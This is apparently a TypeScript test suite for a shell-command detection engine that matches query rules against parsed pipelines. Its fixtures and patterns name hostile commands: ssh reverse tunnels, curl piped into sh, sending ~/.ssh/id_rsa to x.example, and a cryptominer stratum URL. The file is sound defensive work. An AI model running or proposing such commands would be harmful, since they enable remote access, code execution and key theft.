import assert from "node:assert/strict";
import type { Command } from "../../../extension/core/shell/program.ts";
import { hole } from "../../../extension/core/shell/value.ts";
import { command, effect, line, matchesOf } from "./handmade.ts";

const on = (predicates: string): string => `((command name: (_) @name) @finding ${predicates})`;
const fires = (predicates: string, subject: Command): boolean => matchesOf(on(predicates), [line(subject)]).length > 0;
const confidence = (predicates: string, subject: Command): string | undefined => matchesOf(on(predicates), [line(subject)])[0]?.confidence;

describe("matching a program", () => {
  it("gives a tunnel with its span, canonical text, wrappers and tokens", () => {
    const ssh = command("ssh", ["-N", "-R=9:localhost:22", "--", "u@h"], { span: { start: 14, end: 40 }, via: ["nohup", "timeout"] });
    const query = on('(#any-of? @name "ssh" "autossh") (#option? @finding "-R")');
    assert.deepEqual(matchesOf(query, [line(ssh)], { message: "opens a reverse tunnel through {operand:0} at {option:-R}" }), [
      {
        rule: "command/some-rule",
        span: { start: 14, end: 40 },
        related: [],
        message: "opens a reverse tunnel through u@h at 9:localhost:22",
        severity: "high",
        confidence: "high",
        canonical: "ssh -N -R=9:localhost:22 -- u@h",
        via: ["nohup", "timeout"],
        tokens: ["ssh", "-N", "-R=9:localhost:22", "--", "u@h"],
      },
    ]);
  });

  it("meets each stage of a pipeline by the shape of a command", () => {
    const found = matchesOf(on('(#eq? @name "curl")'), [line(command("cat"), command("curl"), command("sh"))]);
    assert.deepEqual(
      found.map((match) => match.canonical),
      ["curl"],
    );
  });

  it("meets exactly the lines of two stages by the shape of a pipeline", () => {
    const query = '((pipeline . (command name: (_) @from) @a . (command name: (_) @to) @finding .) (#eq? @from "curl") (#eq? @to "sh"))';
    const curl = command("curl", ["--", "http://x"], { span: { start: 0, end: 5 } });
    const sh = command("sh", [], { span: { start: 8, end: 10 } });
    const found = matchesOf(query, [line(curl, sh), line(curl, command("tee"), sh), line(sh, curl)], { message: "'{from} feeds {to}'" });
    assert.deepEqual(
      found.map(({ canonical, span, message, tokens }) => ({ canonical, span, message, tokens })),
      [
        {
          canonical: "curl -- http://x | sh",
          span: { start: 8, end: 10 },
          message: "curl feeds sh",
          tokens: ["curl", "--", "http://x", "|", "sh"],
        },
      ],
    );
  });

  it("marks the whole line where the pipeline is the finding", () => {
    const query = '(pipeline . (command) . (command name: (_) @to (#eq? @to "sh")) .) @finding';
    const [found] = matchesOf(query, [
      line(command("curl", [], { span: { start: 3, end: 7 } }), command("sh", [], { span: { start: 10, end: 12 } })),
    ]);
    assert.deepEqual(found?.span, { start: 3, end: 12 });
  });

  it("tells of effects by what they move, and keeps the places on the way", () => {
    const query =
      '((pipeline . (command name: (_) @from) @a . (command name: (_) @to) @finding .) (#eq? @from ":read") (#eq? @to ":send") (#operand? @a "0" "list:secrets"))';
    const way = { start: 1, end: 4, message: "read here" };
    const [found] = matchesOf(query, [line(effect(":read", ["~/.ssh/id_rsa"]), effect(":send", ["x.example"], { related: [way] }))], {
      message: "'sends {from} to {to}'",
    });
    assert.equal(found?.message, "sends ~/.ssh/id_rsa to x.example");
    assert.deepEqual(found?.related, [way]);
    assert.equal(found?.canonical, ":read ~/.ssh/id_rsa | :send x.example");
  });

  it("finds any word of any command, known program or not", () => {
    const query = '((command name: (_)) @finding (#word? @finding "^stratum\\\\d?(\\\\+(tcp|ssl|tls))?://"))';
    assert.equal(matchesOf(query, [line(command("/tmp/kworker", ["--", "-o", "stratum+tcp://p:1"]))]).length, 1);
    assert.equal(matchesOf(query, [line(command("curl", ["-d=stratum2://p"]))]).length, 1);
    assert.equal(matchesOf(query, [line(command("echo", ["--", "see stratum://p"]))]).length, 0);
  });

  it("asks for options by any spelling, along the subcommands of the program", () => {
    const commit = command("git", ["-n"], { sub: ["commit"] });
    const push = command("git", ["-n"], { sub: ["push"] });
    const predicates = '(#eq? @name "git") (#option? @finding "--no-verify")';
    assert.equal(fires(predicates, commit), true);
    assert.equal(fires(predicates, push), false);
    assert.equal(fires('(#eq? @name "git") (#sub? @finding "push" "remote add")', command("git", [], { sub: ["remote", "add"] })), true);
    assert.equal(fires('(#eq? @name "git") (#not-sub? @finding "push")', push), false);
  });

  it("asks for the value of an option, and for operands by place", () => {
    const ssh = command("ssh", ["-R=9:localhost:22", "--", "first", "last"]);
    assert.equal(fires('(#eq? @name "ssh") (#option-value? @finding "-R" "localhost")', ssh), true);
    assert.equal(fires('(#eq? @name "ssh") (#not-option-value? @finding "-R" "localhost")', ssh), false);
    assert.equal(fires('(#operand? @finding "0" "^last$")', ssh), false);
    assert.equal(fires('(#operand? @finding "-1" "^last$")', ssh), true);
    assert.equal(fires('(#operand? @finding "^last$")', ssh), true);
    assert.equal(fires('(#not-operand? @finding "7" "x")', ssh), true);
  });

  it("asks where a command stands, through what it came, and what lay between", () => {
    const subject = command("nc", [], { via: ["sh -c"], places: ["loop"], through: ["gzip"] });
    assert.equal(fires('(#via? @finding "sh -c") (#within? @finding "loop") (#through? @finding "gzip")', subject), true);
    assert.equal(fires('(#via? @finding "sudo")', subject), false);
    assert.equal(fires('(#via? @finding "sudo" "sh -c")', subject), true);
    assert.equal(fires('(#not-via? @finding "sudo" "xargs")', subject), true);
    assert.equal(fires('(#not-via? @finding "sudo" "sh -c")', subject), false);
    assert.equal(fires('(#within? @finding "trap")', subject), false);
  });

  it("takes nothing unknown for a match, and lowers the confidence of a negative answer that rests on it", () => {
    const open = command("curl", ["--", `https://${hole("HOST")}/in`]);
    assert.equal(fires('(#operand? @finding "0" "^https://[a-z]+/")', open), false);
    assert.equal(confidence('(#operand? @finding "0" "^https://")', open), "high");
    assert.equal(confidence('(#not-operand? @finding "0" "evil")', open), "medium");
    assert.equal(confidence('(#not-operand? @finding "0" "evil")', command("curl", ["--", "https://x/"])), "high");
    assert.equal(fires('(#unknown? @finding "operand")', open), true);
    assert.equal(fires('(#unknown? @finding "name")', open), false);
  });

  it("never meets a name that is unknown, unless it is asked for", () => {
    const open = command(hole("CMD"));
    assert.equal(fires('(#eq? @name "curl")', open), false);
    assert.equal(confidence('(#not-eq? @name "curl")', open), "medium");
    assert.equal(fires('(#unknown? @finding "name")', open), true);
  });

  it("lowers the confidence of an absent option where an unknown word may hold it", () => {
    const predicates = '(#eq? @name "git") (#not-option? @finding "-n")';
    assert.equal(confidence(predicates, command("git", ["--", hole("ARGS")], { sub: ["commit"] })), "medium");
    assert.equal(confidence(predicates, command("git", ["--", `x${hole("ARGS")}`], { sub: ["commit"] })), "high");
  });

  it("makes one finding of several lines at one place, the surest, with all that leads there", () => {
    const query = on('(#eq? @name ":send") (#not-operand? @finding "0" "good")');
    const a = { start: 1, end: 2, message: "read here" };
    const b = { start: 3, end: 4, message: "read here" };
    const found = matchesOf(query, [line(effect(":send", [hole()], { related: [a] })), line(effect(":send", ["x"], { related: [b] }))]);
    assert.equal(found.length, 1);
    assert.equal(found[0]?.confidence, "high");
    assert.deepEqual(found[0]?.related, [b, a]);
  });

  it("speaks only of the dialects that the rule names", () => {
    const narrowed = { dialects: "[powershell, cmd]" };
    assert.equal(matchesOf(on('(#eq? @name "curl")'), [line(command("curl"))], narrowed).length, 0);
    assert.equal(matchesOf(on('(#eq? @name "curl")'), [line(command("curl", [], { dialect: "cmd" }))], narrowed).length, 1);
  });

  it("compares the names of two stages", () => {
    const query = "((pipeline . (command name: (_) @from) . (command name: (_) @to) @finding .) (#eq? @from @to))";
    assert.equal(matchesOf(query, [line(command("sh"), command("sh"))]).length, 1);
    assert.equal(matchesOf(query, [line(command("sh"), command("cat"))]).length, 0);
  });

  it("looks no further than 4 KiB into a value, and counts the rest as unknown", () => {
    const long = command("curl", ["--", `${"a".repeat(5000)}evil`]);
    assert.equal(fires('(#operand? @finding "0" "evil$")', long), false);
    assert.equal(confidence('(#not-operand? @finding "0" "evil$")', long), "medium");
  });
});
